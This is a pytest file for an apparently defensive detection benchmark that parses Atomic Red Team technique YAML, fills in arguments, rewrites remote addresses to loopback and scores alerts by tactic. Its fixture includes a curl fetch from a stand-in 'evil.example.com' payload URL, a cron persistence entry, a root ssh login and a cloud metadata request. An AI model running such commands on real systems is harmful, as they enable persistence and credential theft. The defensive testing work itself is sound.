"""The detection benchmark's ART parser, selector, argument filling and tactic mapping
(bench/detection), on YAML written here in ART's format and on the shared checkout when present."""

from __future__ import annotations

from pathlib import Path

import pytest

from bench.detection import atomics as art
from bench.detection.runner import Result, environment
from bench.detection.score import score, table
from bench.detection.tactics import (
    TECHNIQUE_TACTICS,
    UnknownTechnique,
    phase_of,
    phases_of,
    tactics_of,
)

YAML = """\
attack_technique: T1053.003
display_name: 'Scheduled Task/Job: Cron'
atomic_tests:
- name: Cron file
  auto_generated_guid: 11111111-1111-1111-1111-111111111111
  supported_platforms: [linux, macos]
  input_arguments:
    command:
      type: string
      default: echo hi
    server_url:
      type: url
      default: https://evil.example.com/payload.sh
    remote_host:
      type: string
      default: 10.1.2.3
    script_path:
      type: path
      default: PathToAtomicsFolder/T1053.003/src/x.sh
  dependencies:
  - description: the payload must exist
    prereq_command: |
      test -f #{script_path}
    get_prereq_command: |
      curl -o #{script_path} #{server_url}
  executor:
    name: bash
    command: |
      echo "* * * * * #{command}" > /etc/cron.d/x; ping -c1 8.8.8.8; curl #{server_url}
      ssh root@#{remote_host}
    cleanup_command: rm -f /etc/cron.d/x
- name: Windows only
  supported_platforms: [windows]
  executor: {name: powershell, command: Get-Thing}
- name: Manual on Linux
  supported_platforms: [linux]
  executor: {name: manual, steps: do it}
"""


def write_atomics(tmp_path: Path, text: str = YAML) -> Path:
    d = tmp_path / "atomics" / "T1053.003"
    d.mkdir(parents=True)
    (d / "T1053.003.yaml").write_text(text)
    return tmp_path


def test_parse_select_and_fill(tmp_path: Path) -> None:
    tests = art.load(write_atomics(tmp_path))
    assert [t.key for t in tests] == ["T1053.003-1", "T1053.003-2", "T1053.003-3"]
    linux = art.linux_tests(tests)
    assert [t.key for t in linux] == ["T1053.003-1", "T1053.003-3"]
    cron, manual = linux
    assert cron.selected and cron.static_skip is None
    assert not manual.selected and manual.static_skip == "executor manual (only sh and bash run)"
    # remote addresses point at loopback; a local path stays
    assert cron.arguments["server_url"] == "https://127.0.0.1/payload.sh"
    assert cron.arguments["remote_host"] == "127.0.0.1"
    assert cron.arguments["command"] == "echo hi"
    cmd = art.fill(cron.command, cron.arguments)
    assert "/etc/cron.d/x" in cmd and "* * * * * echo hi" in cmd
    assert "8.8.8.8" not in cmd and "ping -c1 127.0.0.1" in cmd
    assert "ssh root@127.0.0.1" in cmd and "curl https://127.0.0.1/payload.sh" in cmd
    assert cron.uses_atomics_folder()
    dep = cron.dependencies[0]
    assert dep.needs_download
    env = environment(cron)
    assert env["ATOMIC_PRE_0"] == "test -f /AtomicRedTeam/atomics/T1053.003/src/x.sh\n"
    assert env["ATOMIC_DL_0"] == "1" and env["ATOMIC_EXEC"] == "/bin/bash"


def test_rewrite_leaves_loopback_netmasks_and_versions() -> None:
    text = ("nc 127.0.0.1 80; ip addr add 10.0.0.1/24; mask 255.255.255.0; ver 1.2.3.4000; "
            "0.0.0.0; curl http://169.254.169.254/latest/meta-data/ http://example.org/x")
    out = art.rewrite_addresses(text)
    # the metadata service is link-local, on the node: kept, so the rules can see it
    assert "http://169.254.169.254/latest/meta-data/" in out and "http://127.0.0.1/x" in out
    assert "127.0.0.1 80" in out and "add 127.0.0.1/24" in out
    assert "255.255.255.0" in out and "1.2.3.4000" in out and "0.0.0.0" in out


def test_local_get_prereq_is_not_a_download() -> None:
    assert not art.Dependency("", "test -x /tmp/a", "gcc -o /tmp/a /tmp/a.c").needs_download
    for fetch in ("wget http://x/y", "apt-get install -y zip", "pip install requests",
                  "git clone https://x/y", "python3 -m pip install x"):
        assert art.Dependency("", "false", fetch).needs_download, fetch


def test_only_filter(tmp_path: Path) -> None:
    linux = art.linux_tests(art.load(write_atomics(tmp_path)))
    assert [t.key for t in art.only(linux, "T1053")] == ["T1053.003-1", "T1053.003-3"]
    assert [t.key for t in art.only(linux, "T1053.003-3")] == ["T1053.003-3"]
    with pytest.raises(art.AtomicsError, match="no Linux test matches"):
        art.only(linux, "T9999")


def test_bad_input_names_the_problem(tmp_path: Path) -> None:
    with pytest.raises(art.AtomicsError, match="does not exist"):
        art.atomics_dir(tmp_path / "missing")
    (tmp_path / "empty").mkdir()
    with pytest.raises(art.AtomicsError, match="no T\\*/T\\*.yaml"):
        art.atomics_dir(tmp_path / "empty")
    root = write_atomics(tmp_path / "bad", "just: text\n")
    with pytest.raises(art.AtomicsError, match="not an ART technique file"):
        art.load(root)


def test_tactic_to_phase_mapping() -> None:
    assert phases_of("T1059.004") == ("foothold",)
    assert phases_of("T1003.008") == ("privilege_escalation",)
    assert phases_of("T1053.003") == ("foothold", "persistence", "privilege_escalation")
    assert phases_of("T1046") == ("lateral_movement",)       # remote discovery
    assert phases_of("T1082") == ("discovery",)              # this host: apart
    assert phases_of("T1070.003") == ("objectives",)         # history clearing
    assert phases_of("T1686") == ("objectives",)             # firewall impaired
    assert phases_of("T1486") == ("objectives",)
    assert phases_of("T1027.004") == ("foothold",)           # other defence evasion
    assert phase_of("T1040", "credential-access") == "privilege_escalation"
    with pytest.raises(UnknownTechnique, match="T9999"):
        tactics_of("T9999")


def test_every_shared_linux_technique_has_tactics() -> None:
    """The table covers every technique of the shared ART checkout's Linux tests."""
    root = art.default_atomics(Path(__file__).resolve().parents[2])
    if not root.is_dir():
        pytest.skip(f"no Atomic Red Team checkout at {root}")
    missing = {t.technique for t in art.linux_tests(art.load(root))} - set(TECHNIQUE_TACTICS)
    assert not missing, f"techniques without tactics: {sorted(missing)}"


def _result(key: str, technique: str, status: str, alerted: bool, in_phase: bool) -> Result:
    tactics = list(tactics_of(technique))
    return Result(key=key, technique=technique, number=1, name=key, guid="", executor="sh",
                  tactic=tactics[0], tactics=tactics, phases=list(phases_of(technique)),
                  status=status, any_alert=alerted, in_phase=in_phase,
                  skip_reason="" if status == "executed" else "tool missing in the image: x")


def test_score_counts_and_keeps_pure_discovery_apart() -> None:
    results = [_result("a", "T1059.004", "executed", True, True),
               _result("b", "T1059.004", "executed", True, False),
               _result("c", "T1003.008", "executed", False, False),
               _result("d", "T1082", "executed", False, False),
               _result("e", "T1082", "skipped", False, False)]
    s = score(results)
    assert s["overall"] == {"executed": 3, "alerted": 2, "in_phase": 1,
                            "alerted_pct": 66.7, "in_phase_pct": 33.3}
    assert s["discovery_apart"]["executed"] == 1
    assert s["per_tactic"]["execution"]["executed"] == 2
    assert s["skipped"] == {"tool missing in the image": 1}
    assert "OVERALL" in table(s)


def test_report_renders_tables_and_every_test(tmp_path: Path) -> None:
    from bench.detection.report import coverage_page, main, tactic_table

    results = [_result("T1059.004-1", "T1059.004", "executed", True, True),
               _result("T1082-1", "T1082", "skipped", False, False)]
    doc = {"kind": "detection-bench", "time": "20261129T000000Z", "roxd_rev": "abc",
           "image": "roxd-test/atomic:latest", "timeout_s": 20.0,
           "summary": score(results), "results": [r.to_dict() for r in results]}
    page = coverage_page(doc)
    assert "| T1059.004-1 |" in page and "**in phase**" in page
    assert "| T1082-1 |" in page and "tool missing in the image: x" in page
    assert "| execution | 1 | 1 (100.0 %) | 1 (100.0 %) |" in tactic_table(doc["summary"])
    path = tmp_path / "r.json"
    path.write_text("{}")
    assert main([str(path)]) == 2  # not a detection-bench result: refused, said why
